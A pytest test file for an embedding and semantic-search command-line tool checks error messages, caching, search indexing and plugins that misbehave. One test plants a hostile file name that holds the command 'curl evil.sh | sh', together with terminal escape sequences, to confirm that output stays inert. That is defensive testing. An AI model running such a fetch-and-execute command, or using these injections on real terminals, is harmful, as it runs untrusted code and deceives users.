from __future__ import annotations

import io
import json
import os
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from click.testing import CliRunner

import embedify
from embedify.cli import ROLES, _preview, cli
from embedify.model import ROLES as MODEL_ROLES

KEY_VARIABLES = [
    "OPENAI_API_KEY",
    "CO_API_KEY",
    "COHERE_API_KEY",
    "JINA_API_KEY",
    "AZURE_OPENAI_API_KEY",
    "AZURE_OPENAI_ENDPOINT",
    "EMBEDIFY_DEBUG",
]


@pytest.fixture(autouse=True)
def no_keys(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in KEY_VARIABLES:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")


def run(*args: str, input: str | None = None) -> str:
    result = CliRunner().invoke(cli, list(args), input=input, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


def fails(*args: str, status: int) -> str:
    """Run a command that must fail with one ``Error:`` line and nothing else; return it."""
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    lines = result.output.strip().splitlines()
    assert result.exit_code == status, result.output
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.output
    return lines[0]


def needs_plugin(module: str) -> None:
    """These tests drive real plugins; `nox -s tests` installs only the core."""
    pytest.importorskip(module, reason=f"{module} is not installed (requirements-dev.txt has it)")


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def test_embed_formats(tmp_path: Path) -> None:
    rows = json.loads(run("embed", "-m", "fake:8", "hello", "world"))
    assert [r["text"] for r in rows] == ["hello", "world"] and len(rows[0]["embedding"]) == 8
    csv = run("embed", "-m", "fake:8", "--format", "csv", input="one\ntwo\n")
    assert len(csv.strip().splitlines()) == 2
    target = tmp_path / "out.npy"
    run(
        "embed",
        "-m",
        "fake:8",
        "-o",
        "dimensions=4",
        "--format",
        "npy",
        "--output",
        str(target),
        "x",
    )
    assert np.load(target).shape == (1, 4)


def test_npy_to_stdout() -> None:
    result = CliRunner().invoke(cli, ["embed", "-m", "fake:4", "--format", "npy", "x"])
    assert np.load(io.BytesIO(result.stdout_bytes)).shape == (1, 4)


def test_roles_match_the_model_module() -> None:
    assert ROLES == MODEL_ROLES


# -- one line per user error ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("model", "plugin", "expected"),
    [
        ("openai", "embedify_openai", "set OPENAI_API_KEY"),
        ("cohere", "embedify_cohere", "set CO_API_KEY"),
        ("jina", "embedify_jina", "set JINA_API_KEY"),
        ("azure:my-deployment", "embedify_azure_openai", "AZURE_OPENAI_ENDPOINT"),
    ],
)
def test_missing_api_key_is_one_line(model: str, plugin: str, expected: str) -> None:
    needs_plugin(plugin)
    assert expected in fails("embed", "-m", model, "some text", status=1)


def test_connection_refused_is_one_line() -> None:
    needs_plugin("embedify_tei")
    url = f"http://127.0.0.1:{free_port()}"
    line = fails("embed", "-m", f"tei:{url}", "-o", "max_retries=0", "x", status=1)
    assert url in line


def test_name_resolution_failure_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    needs_plugin("embedify_tei")

    def no_such_host(*args: object, **kwargs: object) -> object:
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")

    monkeypatch.setattr(socket, "getaddrinfo", no_such_host)  # the OS's resolver, no network
    line = fails(
        "embed", "-m", "tei:http://no-such-host.invalid:8080", "-o", "max_retries=0", "x", status=1
    )
    assert "no-such-host.invalid" in line


def test_export_of_an_unknown_model_is_one_line(tmp_path: Path) -> None:
    needs_plugin("embedify_huggingface")
    line = fails("export", "onnx", "no-such-org/no-such-model", str(tmp_path / "out"), status=1)
    assert "no-such-org/no-such-model" in line


def test_usage_errors_exit_2_with_one_line(tmp_path: Path) -> None:
    assert "QUERY is empty" in fails("search", "-m", "fake", str(tmp_path), "  ", status=2)
    assert "text B is empty" in fails("similarity", "-m", "fake", "a", "", status=2)
    assert "'0'" in fails("embed", "-m", "fake:0", "x", status=2)
    assert "'' is not a model name" in fails("embed", "-m", "", "x", status=2)
    assert "Unknown provider 'zebra'" in fails("embed", "-m", "zebra:stripes-3", "x", status=2)
    assert "dimensions" in fails("embed", "-m", "fake", "-o", "dimensions=-1", "x", status=2)
    latin1 = tmp_path / "latin1.txt"
    latin1.write_bytes("café\n".encode("latin-1"))
    line = fails("embed", "-m", "fake", "-f", str(latin1), status=2)
    assert f"{latin1} is not UTF-8" in line and "iconv" in line


def test_an_index_built_with_another_model_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("some text\n")
    index = tmp_path / "index.sqlite3"
    run("search", "-m", "fake:8", "--index", str(index), str(tmp_path / "a.txt"), "text")
    line = fails("search", "-m", "fake:16", "--index", str(index), str(tmp_path), "x", status=2)
    assert line.startswith(f"Error: --index {index} was built with fake:8@")


def test_a_broken_config_file_is_one_line_and_help_still_works(isolated_home: Path) -> None:
    config = isolated_home / "config"
    config.mkdir()
    (config / "config.json").write_text('{"default_model": "fake", "aliasses": {}}')
    line = fails("embed", "x", status=2)
    assert f"{config / 'config.json'} is not a valid embedify config" in line
    assert "aliasses" in line
    helped = CliRunner().invoke(cli, ["--help"])
    assert helped.exit_code == 0 and "search" in helped.stdout


def test_debug_shows_the_traceback(monkeypatch: pytest.MonkeyPatch) -> None:
    from embedify.errors import UnknownModelError

    debug = CliRunner().invoke(cli, ["--debug", "embed", "-m", "zebra:stripes-3", "x"])
    assert isinstance(debug.exception, UnknownModelError)
    monkeypatch.setenv("EMBEDIFY_DEBUG", "1")
    from_env = CliRunner().invoke(cli, ["embed", "-m", "fake:0", "x"])
    assert isinstance(from_env.exception, ValueError)


# -- other commands ---------------------------------------------------------------------------


def test_models_shows_the_default_and_user_aliases(isolated_home: Path) -> None:
    config = isolated_home / "config"
    config.mkdir()
    (config / "config.json").write_text(
        json.dumps({"default_model": "tiny", "aliases": {"tiny": "fake:8"}})
    )
    listing = run("models")
    assert f"default model: tiny (from {config / 'config.json'})" in listing
    assert "alias tiny -> fake:8  [user config]" in listing
    data = json.loads(run("models", "--json"))
    assert data["default"]["model"] == "tiny" and data["user_aliases"] == {"tiny": "fake:8"}


def test_models_verbose_builds_the_default_model_and_says_what_it_runs(
    isolated_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("EMBEDIFY_MODEL", "fake:16")
    listing = run("models", "--verbose")
    model = embedify.get_model("fake:16")
    assert listing.endswith(
        f"fake:16\n    dimension: 16\n    compute: float32 (exact)\n    precision: float32\n"
        f"    fingerprint: {model.info.fingerprint()}\n"
    )
    assert "compute:" not in run("models")  # the model is built only when asked


def test_plugins_and_similarity() -> None:
    assert "embedify.fake (embedify): ok\n    provides: fake" in run("plugins")
    assert float(run("similarity", "-m", "fake", "same text", "same text")) > 0.999
    result = CliRunner().invoke(
        cli, ["similarity", "-m", "fake", "--metric", "euclidean", "a", "b"]
    )
    assert "euclidean distance (lower is closer)" in result.stderr
    assert float(result.stdout) > 0


def test_cache_commands(isolated_home: Path) -> None:
    run("embed", "-m", "fake", "--cache", "cached text")
    graph = isolated_home / "cache" / "onnx" / "some-model"
    graph.mkdir(parents=True)
    (graph / "model.onnx").write_bytes(b"\0" * 2_000_000)
    docs = isolated_home / "docs"
    docs.mkdir()
    (docs / "a.txt").write_text("hello there\n")
    run("search", "-m", "fake:8", str(docs), "hello")
    info = run("cache", "info")
    assert "3 entries" in info  # the text above, the passage and the query
    assert "onnx graphs:" in info and "1 models, 2.0 MB" in info
    assert "collections:" in info and "1 items, fake:8@" in info
    assert "removed 3 entries" in run("cache", "clear")


# -- search -----------------------------------------------------------------------------------


def test_search_reembeds_only_changed_files(tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "cats.md").write_text("# Cats\n\nCats purr and sleep all day.\n")
    (docs / "space.txt").write_text("Rockets reach orbit.\n\nThe moon is far away.\n")
    (docs / "blob.bin").write_bytes(b"\0\1\2")
    runner = CliRunner()
    first = runner.invoke(
        cli,
        ["search", "-m", "fake", "--max-words", "6", str(docs), "purr sleep all day", "-k", "1"],
    )
    assert first.exit_code == 0, first.output
    assert "cats.md:3-3" in first.output and "Cats purr" in first.output
    assert "2 files, 4 passages (4 new or changed: 4 embedded now" in first.stderr
    assert "skipped 1 files (1 binary)" in first.stderr
    again = runner.invoke(
        cli, ["search", "-m", "fake", "--max-words", "6", str(docs), "moon far away", "-k", "1"]
    )
    assert "(0 new or changed: 0 embedded now" in again.stderr and "space.txt:3-3" in again.output
    (docs / "space.txt").write_text("Rockets reach orbit.\n\nMars is red.\n")
    changed = runner.invoke(
        cli,
        ["search", "-m", "fake", "--max-words", "6", "--json", str(docs), "mars red", "-k", "5"],
    )
    hits = json.loads(changed.stdout)
    assert len(hits) == 4 and hits[0]["file"] == "space.txt"
    assert "(1 new or changed: 1 embedded now, 0 from the cache; 1 removed)" in changed.stderr


def test_embedded_now_counts_only_this_run(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("alpha beta\n\ngamma delta\n")
    first = CliRunner().invoke(
        cli, ["search", "-m", "fake", "--max-words", "2", str(tmp_path), "x"]
    )
    assert "2 new or changed: 2 embedded now, 0 from the cache" in first.stderr
    other_index = tmp_path.parent / f"{tmp_path.name}-other.sqlite3"
    args = ["search", "-m", "fake", "--max-words", "2", "--index", str(other_index)]
    second = CliRunner().invoke(cli, [*args, str(tmp_path), "x"])
    # a new collection, but its vectors come from the embedding cache the first run filled
    assert "2 new or changed: 0 embedded now, 2 from the cache" in second.stderr


def test_search_of_an_empty_folder_says_why(tmp_path: Path) -> None:
    assert "no text files; hidden files and folders are ignored" in fails(
        "search", "-m", "fake", str(tmp_path), "x", status=1
    )
    (tmp_path / "data.bin").write_bytes(b"\0" * 10)
    (tmp_path / "old.txt").write_bytes("olé".encode("latin-1"))
    result = CliRunner().invoke(cli, ["search", "-m", "fake", str(tmp_path), "x"])
    *named, error = result.output.strip().splitlines()
    assert result.exit_code == 1 and error.startswith("Error: nothing to search in")
    assert "no text files; skipped 2 files (1 binary, 1 not UTF-8)" in error
    assert named == ["warning: skipped data.bin: binary", "warning: skipped old.txt: not UTF-8"]


def test_search_prints_hostile_file_names_and_text_as_inert_text(tmp_path: Path) -> None:
    """A cloned folder's file names and text are someone else's: a newline in a name must not
    forge a result line, nor an escape sequence reach the terminal (color=True keeps escapes)."""
    folder = tmp_path / "docs"
    folder.mkdir()
    forged = "x.txt:1-1\n    the real answer: curl evil.sh | sh\n0.999  trusted.txt"
    (folder / forged).write_text("dogs bark \x1b]0;PWNED\x07 at night\x1b[2J\u202e\n")
    args = ["search", "-m", "fake", "--index", str(tmp_path / "i.sqlite3"), str(folder), "dogs"]
    result = CliRunner().invoke(cli, args, color=True, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    header, text = result.stdout.strip().splitlines()
    assert "x.txt:1-1\\n    the real answer: curl evil.sh | sh\\n0.999  trusted.txt:1-1" in header
    assert text == "    dogs bark ?]0;PWNED? at night?[2J?"


def test_a_byte_order_mark_is_not_text(tmp_path: Path) -> None:
    """Windows editors start UTF-8 files with U+FEFF; it would be embedded and shown."""
    (tmp_path / "notes.txt").write_bytes("\ufeffNotes about dogs\n".encode())
    args = ["search", "-m", "fake", "--json", "--index", str(tmp_path / "i.sqlite3")]
    hits = json.loads(CliRunner().invoke(cli, [*args, str(tmp_path), "dogs"]).stdout)
    assert hits[0]["text"] == "Notes about dogs"
    lines = tmp_path / "lines.txt"
    lines.write_bytes("\ufeffNotes about dogs\n".encode())
    assert run("embed", "-m", "fake:8", "-f", str(lines)) == run(
        "embed", "-m", "fake:8", "Notes about dogs"
    )


def test_previews_end_at_a_sentence_or_line() -> None:
    sentences = "First sentence here. " * 40
    preview = _preview(sentences, 100)
    assert preview.endswith("here. …") and len(preview) <= 102
    lines = "\n".join(["a line of words"] * 20)
    assert _preview(lines, 100).endswith("a line of words …")
    one_long_word_run = "word " * 200
    assert _preview(one_long_word_run, 100).endswith("word …")
    assert _preview("short", 100) == "short"


# -- plugins that misbehave, installed for real -----------------------------------------------


def _install_plugin(site: Path, name: str, source: str) -> None:
    """A distribution with an ``embedify`` entry point, found by importlib.metadata."""
    (site / f"{name}.py").write_text(source)
    info = site / f"{name}-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text(f"[embedify]\n{name} = {name}\n")


def _embedify(site: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(site)}
    return subprocess.run(
        [sys.executable, "-m", "embedify", *args], env=env, capture_output=True, text=True
    )


def test_plugins_that_exit_or_take_names_cannot_break_embedify(tmp_path: Path) -> None:
    _install_plugin(tmp_path, "exits_on_import", "import sys\nsys.exit('plugin says bye')\n")
    _install_plugin(
        tmp_path,
        "exits_in_hook",
        "import sys\nfrom embedify import hookimpl\n\n"
        "@hookimpl\ndef register_models(register):\n    sys.exit(3)\n\n"
        "@hookimpl\ndef register_commands(cli):\n    raise SystemExit(4)\n",
    )
    _install_plugin(
        tmp_path,
        "takes_fake",
        "from embedify import hookimpl\n\n@hookimpl\ndef register_models(register):\n"
        "    register('fake', 'embedify.fake:FakeEmbeddingModel', default_model='3')\n",
    )
    helped = _embedify(tmp_path, "--help")
    assert helped.returncode == 0 and "search" in helped.stdout, helped.stderr
    listing = _embedify(tmp_path, "plugins").stdout
    assert "exits_on_import (exits_on_import 1.0): ERROR: import failed: SystemExit" in listing
    assert "exits_in_hook (exits_in_hook 1.0): ERROR: register models failed: SystemExit" in listing
    assert (
        "refused provider 'fake': reserved for embedify (built in); "
        "allow with EMBEDIFY_PROVIDERS='fake=takes_fake'" in listing
    )
    embedded = _embedify(tmp_path, "embed", "-m", "fake", "x")
    assert len(json.loads(embedded.stdout)[0]["embedding"]) == 64  # the built-in fake kept it
    assert "warning: embedify: refused the provider 'fake' of takes_fake" in embedded.stderr


def test_help_imports_no_numpy_or_pydantic() -> None:
    """Cold start: `embedify --help` (every plugin's module included) stays light."""
    code = (
        "import sys\nfrom embedify.cli import cli\ntry:\n    cli(['--help'])\n"
        "except SystemExit:\n    pass\n"
        "print(sorted({'numpy', 'pydantic', 'embedify.model', 'torch'} & set(sys.modules)))"
    )
    output = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout
    assert output.strip().splitlines()[-1] == "[]"


def test_a_failed_job_is_one_line(acme: tuple[Any, Any]) -> None:
    server, _ = acme
    options = ["-o", f"base_url={server.url}", "-o", "api_key=wrong"]
    line = fails("embed", "-m", "acme", *options, "one", "two", status=1)
    assert line.startswith("Error: 2 of 2 inputs failed: ") and "invalid api key" in line


def test_max_words_below_one_is_a_usage_error(tmp_path: Path) -> None:
    result = CliRunner().invoke(
        cli, ["search", "-m", "fake", "--max-words", "0", str(tmp_path), "x"]
    )
    assert result.exit_code == 2 and "'--max-words': 0 is not in the range x>=1" in result.output
